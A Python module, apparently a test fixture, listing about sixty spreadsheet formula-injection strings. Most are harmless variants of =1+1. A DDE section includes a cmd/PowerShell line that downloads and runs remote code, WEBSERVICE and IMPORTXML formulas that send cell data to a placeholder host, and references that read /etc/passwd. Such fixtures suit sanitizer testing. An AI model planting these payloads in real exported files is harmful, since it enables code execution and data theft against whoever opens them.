"""Sixty cells that a spreadsheet would run if they reached it as they are."""

_SIGNS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_CALLS = (
    "1+1",
    'HYPERLINK("https://example.org/?"&A1;"look")',
    "SUM(1;1)",
)
_FRONTS = ("\t", "\r", "\n", "\x00", " ", "  ", "\u00a0", "\u200b", "\ufeff", "\u202e", "\x0b", "\u3000")
HARMLESS = len(_SIGNS) * len(_CALLS)  # the first so many ask nobody else for anything
PAYLOADS: tuple[str, ...] = (
    *(f"{sign}{call}" for sign in _SIGNS for call in _CALLS),
    *(f"{front}=1+1" for front in _FRONTS),
    # DDE, and what fetches from elsewhere.
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C powershell IEX(wget 0r.pe/p)'!A0",
    '=WEBSERVICE("https://example.org/"&A1)',
    '=IMPORTXML(CONCAT("https://example.org/",A1:A9),"//a")',
    '=DDE("soffice";"/etc/passwd";"A1")',
    "='file:///etc/passwd'#$passwd.A1",
    "=RAND()",
    # Out of the cell: quotes, and the separators of other settings.
    '"=1+1"',
    '"";=1+1;',
    'a";=1+1;"b',
    "a;=1+1;b",
    "a;=1+1",
    "a; =1+1;",
    "a\t=1+1\tb",
    "a\t=1+1",
    "a,=1+1,b",
    "a|=1+1|b",
    "a\n=1+1",
    "a\r\n=1+1",
    'a;"=1+1";b',
    "a;'=1+1;b",
    ";=1+1;",
    "'=1+1",
)
